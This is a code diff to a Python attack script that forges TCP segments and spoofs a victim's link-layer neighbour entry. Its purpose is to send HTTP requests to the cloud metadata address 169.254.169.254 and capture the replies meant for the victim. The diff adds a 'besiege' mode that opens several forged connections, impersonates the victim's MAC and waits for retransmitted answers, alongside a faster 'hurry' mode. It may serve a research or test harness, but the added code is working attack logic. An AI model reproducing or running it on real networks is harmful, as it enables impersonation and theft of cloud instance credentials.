@@ -22,6 +22,7 @@ import time
 from collections import Counter
 from collections.abc import Iterator
 from dataclasses import dataclass, field
+from itertools import count, islice
 from typing import Any
 
 FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10
@@ -191,11 +192,11 @@ def pause(dice: random.Random) -> float:
     return float(2e-5 * 1000 ** dice.random())
 
 
-def plans(dice: random.Random, count: int) -> Iterator[Plan]:
+def plans(dice: random.Random, times: int) -> Iterator[Plan]:
     """
     Choose the timings of a number of attempts.
     """
-    for _ in range(count):
+    for _ in range(times):
         forged = dice.random() < 0.8
         yield Plan(
             forged=forged,
@@ -249,6 +250,7 @@ class Attack:
         for _ in range(5):
             for segment in self.listen(0.005):
                 if segment.port == port and segment.flags & (SYN | ACK) == SYN | ACK:
+                    self.counts["handshakes"] += 1
                     return segment.seq
         return None
 
@@ -262,7 +264,6 @@ class Attack:
         self.counts["attempts"] += 1
         server = self.handshake(plan, mac, port, seq)
         if server is None:
-            self.counts["no handshake"] += 1
             return
         if plan.disguise is not None:
             self.listen(plan.disguise)
@@ -272,26 +273,85 @@ class Attack:
         self.listen(plan.ask)
         if plan.early:
             wire.claim(wire.own, plan.loudly)
-        question = b"GET %s HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n" % (
-            self.dice.choice(TARGETS)
-        )
+        question = self.question()
         wire.send(mac, port, seq + 1, server + 1, PSH | ACK, question)
         self.listen(plan.unmask)
         if not plan.early:
             wire.claim(wire.own, plan.loudly)
         self.listen(plan.patience)
         if plan.polite:
-            end = seq + 1 + len(question)
-            wire.send(mac, port, end, 0, RST)
+            wire.send(mac, port, seq + 1 + len(question), 0, RST)
 
-    def run(self, count: int) -> None:
+    def question(self) -> bytes:
+        """
+        Write a request for something that only the victim may see.
+        """
+        close = self.dice.choice((b"", b"Connection: close\r\n"))
+        return b"GET %s HTTP/1.1\r\nHost: 169.254.169.254\r\n%s\r\n" % (
+            self.dice.choice(TARGETS),
+            close,
+        )
+
+    def hurry(self, times: int) -> None:
         """
         Try again and again, each time from another port.
         """
         first = 20000 + self.dice.randrange(1000)
-        for port, plan in enumerate(plans(self.dice, count), first):
+        for port, plan in enumerate(plans(self.dice, times), first):
             self.attempt(plan, port)
-        self.listen(1.0)
+        # What is held is perhaps let go once the entry has been the victim's for a
+        # while.
+        self.wire.claim(self.wire.victim_mac, loudly=True)
+        self.listen(3.0)
+        self.wire.claim(self.wire.own, loudly=True)
+        self.listen(0.7)
+
+    def besiege(self, rounds: int, connections: int = 6) -> None:
+        """
+        Try with patience: shake hands, look like the victim until nobody remembers
+        that it was otherwise, ask, and be there when the answers are sent again.
+
+        @param connections: How many at a time; they share the neighbour entry.
+        """
+        wire, dice = self.wire, self.dice
+        ports = count(30000 + dice.randrange(1000))
+        for number in range(rounds):
+            opened = list(self.open(islice(ports, connections)))
+            wire.claim(wire.victim_mac, loudly=False)
+            # Accepted at once, or only when all is calm.  In the latter case the
+            # kernel has not measured the way and sends its answer again much later.
+            early = number % 2 == 0
+            if early:
+                self.send_all(opened, ACK)
+            self.listen(dice.uniform(1.8, 3.2))
+            if not early:
+                self.send_all(opened, ACK)
+            self.send_all(opened, PSH | ACK)
+            self.listen(dice.uniform(0.0, 0.15))
+            wire.claim(wire.own, loudly=False)
+            self.listen(0.7 if early else 3.5)
+
+    def open(self, ports: Iterator[int]) -> Iterator[tuple[int, int, int]]:
+        """
+        Get the server's answer to SYN for a number of connections.
+
+        @return: Port and sequence numbers of those that it came for.
+        """
+        plan = Plan(True, False, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, False, False)
+        for port in ports:
+            self.counts["attempts"] += 1
+            seq = self.dice.randrange(1 << 31)
+            server = self.handshake(plan, self.wire.victim_mac, port, seq)
+            if server is not None:
+                yield port, seq + 1, server + 1
+
+    def send_all(self, opened: list[tuple[int, int, int]], flags: int) -> None:
+        """
+        Send a segment on each connection; with C{PSH} it is a request.
+        """
+        for seat in opened:
+            data = self.question() if flags & PSH else b""
+            self.wire.send(self.wire.victim_mac, *seat, flags, data)
 
     def report(self) -> dict[str, Any]:
         """
@@ -316,7 +376,10 @@ def main() -> None:
     """
     order = json.load(sys.stdin)
     attack = Attack(Wire(order), random.Random(order["seed"]))
-    attack.run(order["attempts"])
+    if order["patient"]:
+        attack.besiege(order["rounds"])
+    else:
+        attack.hurry(order["rounds"])
     print(json.dumps(attack.report()))
 
 
